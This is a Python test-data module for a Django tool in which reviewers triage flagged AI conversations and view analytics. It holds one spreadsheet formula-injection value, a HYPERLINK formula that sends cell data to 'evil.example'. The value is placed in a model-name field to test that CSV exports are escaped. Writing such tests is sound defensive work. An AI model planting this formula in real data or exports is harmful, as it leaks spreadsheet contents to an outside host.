"""Builders for test data: conversations, review items, the workspace's form posts. Plain functions (fixtures that
need no arguments live in conftest.py)."""

from __future__ import annotations

import html
from datetime import timedelta
from typing import Any

from django.contrib.auth.models import User
from django.utils import timezone

from reviews.analytics.rollup import analytics_rollup
from reviews.analytics.views import FORMULA_STARTS
from reviews.models import (
    Conversation,
    Decision,
    Flag,
    ModelStatus,
    Queue,
    ReviewItem,
    Score,
    ScoringModel,
    Source,
    model_producer,
)
from reviews.workspace.decisions import decision_record


def source(name: str = "guard", kind: str = "input_guardrail") -> Source:
    return Source.objects.get_or_create(name=name, defaults={"kind": kind})[0]


def conversation(
    source_: Source | None = None,
    external_id: str = "c-1",
    *,
    messages: list[dict[str, str]] | None = None,
    **fields: Any,
) -> Conversation:
    """A stored conversation (a user turn and a reply unless `messages` says otherwise)."""
    return Conversation.objects.create(
        source=source_ or source(), external_id=external_id, messages=messages or MESSAGES, **fields
    )


HX = {"HX-Request": "true"}
MESSAGES = [
    {"role": "user", "content": "How do I pick a lock?"},
    {"role": "assistant", "content": "I can explain how pin-tumbler locks work in general."},
]


def make_item(
    queue: str = "triage",
    *,
    n: int = 0,
    priority: float = 0.0,
    messages: list[dict[str, str]] | None = None,
    category: str = "cyber",
    message_index: int | None = 0,
    **fields: Any,
) -> ReviewItem:
    stored = conversation(external_id=f"{queue}-{n}", messages=messages, model_name="assistant-7b")
    Flag.objects.create(
        conversation=stored,
        detector="input-guardrail",
        category=category,
        score=0.62,
        explanation="burglary",
        message_index=message_index,
    )
    Score.objects.create(conversation=stored, producer="fallback", categories={category: 0.62}, risk=0.62)
    return ReviewItem.objects.create(
        conversation=stored,
        queue=Queue.objects.get(slug=queue),
        priority=priority,
        risk=0.62,
        routed_by="risky",
        **fields,
    )


def page(response: Any) -> str:
    return html.unescape(response.content.decode())


def claim(client: Any, queue: str = "triage") -> ReviewItem | None:
    response = client.post(f"/queues/{queue}/next/")
    assert response.status_code == 302
    location = response["Location"]
    if "/empty/" in location:
        return None
    return ReviewItem.objects.get(pk=int(location.rstrip("/").split("/")[-1]))


DECISION = {"verdict": "appropriate_help", "severity": "1", "rationale": "fine", "categories": []}


# --- Queues page ---------------------------------------------------------------


# --- analytics ------------------------------------------------------------------------------------------------

HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
VERDICTS = ["harmful_compliance", "appropriate_refusal", "appropriate_help", "over_refusal"]


def seed_analytics(first: User, second: User, *, days: int = 4, per_day: int = 3) -> list[ReviewItem]:
    """`days` days of traffic: flagged, scored by the fallback and a model, decided by both reviewers.

    Every third item the reviewers disagree; one calibration item a day. Then the rollups are brought up to
    date, as beat does every few minutes.
    """
    guard, _ = Source.objects.get_or_create(name="guardrail", defaults={"kind": "input_guardrail"})
    monitor, _ = Source.objects.get_or_create(name="cot-monitor", defaults={"kind": "cot_monitor"})
    model = ScoringModel.objects.create(
        version=1,
        encoder="all-MiniLM-L6-v2",
        labels=["cyber", "fraud", "harmful"],
        status=ModelStatus.ACTIVE,
        metrics={"train_size": 80, "val_size": 20, "per_label": {"harmful": {"support": 20, "auroc": 0.91}}},
    )
    triage, calibration = Queue.objects.get(slug="triage"), Queue.objects.get(slug="calibration")
    now = timezone.now()
    items = []
    for day in range(days):
        when = now - timedelta(days=day, hours=1)
        for n in range(per_day + 1):
            k = day * (per_day + 1) + n
            sampled = n == per_day
            category = "cyber" if k % 2 == 0 else "fraud"
            conversation = Conversation.objects.create(
                source=guard if n % 2 == 0 else monitor,
                external_id=f"an-{k}",
                model_name=HOSTILE_MODEL if k == 0 else ("assistant-7b" if n % 2 else "assistant-13b"),
                messages=[{"role": "user", "content": f"question {k}"}, {"role": "assistant", "content": "answer"}],
            )
            Flag.objects.create(
                conversation=conversation, detector="input-guardrail", category=category, score=0.3 + 0.2 * n
            )
            for producer, risk in (("fallback", 0.3 + 0.2 * n), (model_producer(model.version), 0.1 + 0.25 * n)):
                Score.objects.create(
                    conversation=conversation,
                    producer=producer,
                    scoring_model=model if producer != "fallback" else None,
                    categories={category: risk},
                    risk=risk,
                )
            item = ReviewItem.objects.create(
                conversation=conversation,
                queue=calibration if sampled else triage,
                risk=0.6,
                reviews_required=1 if sampled else 2,
                routed_by="sampled" if sampled else "risky",
            )
            verdict = VERDICTS[k % 4]
            decision_record(item=item, reviewer=first, verdict=verdict, categories=[category], time_spent_seconds=30)
            if not sampled:
                other = verdict if n != 2 else VERDICTS[(k + 1) % 4]
                decision_record(item=item, reviewer=second, verdict=other, time_spent_seconds=40 + k)
            Conversation.objects.filter(pk=conversation.pk).update(received_at=when - timedelta(minutes=30))
            ReviewItem.objects.filter(pk=item.pk).update(created_at=when - timedelta(minutes=20), closed_at=when)
            Decision.objects.filter(item=item).update(created_at=when, updated_at=when)
            items.append(item)
    analytics_rollup(full=True)
    return items


def unquote(cell: str) -> str:
    """A CSV cell as the page shows it: without the quote that keeps a spreadsheet from running it."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell
